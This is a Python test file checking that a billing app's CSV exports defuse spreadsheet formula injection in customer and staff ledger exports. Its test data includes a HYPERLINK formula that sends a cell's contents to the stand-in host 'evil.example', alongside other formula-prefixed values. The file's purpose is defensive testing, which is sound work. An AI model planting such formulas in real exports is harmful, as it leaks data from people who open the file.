"""Every input from outside, bounded and answered (issue 10): CSV exports safe in a spreadsheet, body limits on every
path before the body is read, no 500 from hostile input anywhere."""
import csv
import io

import httpx
import pytest
from django.urls import reverse

from billing import exports
from tests.test_admin_audit import _make_staff, _sign_in_with_mfa

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def test_formula_cells_are_made_inert():
    for value in HOSTILE_CELLS:
        assert exports.safe_cell(value) == "'" + value
    assert exports.safe_cell("dall-e-3") == "dall-e-3" and exports.safe_cell(-5) == -5 and exports.safe_cell(None) is None
    line = "".join(exports.csv_lines(["a"], [[HOSTILE_CELLS[0]]]))
    assert list(csv.reader(io.StringIO(line)))[1] == ["'" + HOSTILE_CELLS[0]]


@pytest.fixture
def hostile_rows(live_url, api_key):
    """Rejected requests whose client-chosen fields land in the ledger verbatim (and must leave it inert)."""
    for value in HOSTILE_CELLS[:4]:
        response = httpx.post(f"{live_url}/v1/images/generations", headers={"Authorization": f"Bearer {api_key[1]}"},
                              json={"model": value, "prompt": "x", "size": value, "quality": value})
        assert response.status_code == 404
    return HOSTILE_CELLS[:4]


def _cells(content: bytes) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(content.decode())) for cell in row}


def test_the_customers_request_export_is_safe_to_open(client, user, hostile_rows):
    client.force_login(user)
    response = client.get(reverse("request-export"))
    cells = _cells(b"".join(response.streaming_content))
    for value in hostile_rows:
        assert "'" + value in cells and value not in cells
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells if cell)


def test_the_staff_ledger_export_is_safe_to_open(client, hostile_rows):
    staff, _ = _make_staff("staff@imagegate.test")
    _sign_in_with_mfa(client, staff)
    response = client.get(reverse("admin:billing_ledgerentry_export_csv"))
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content))
    for value in hostile_rows:
        assert "'" + value in cells and value not in cells
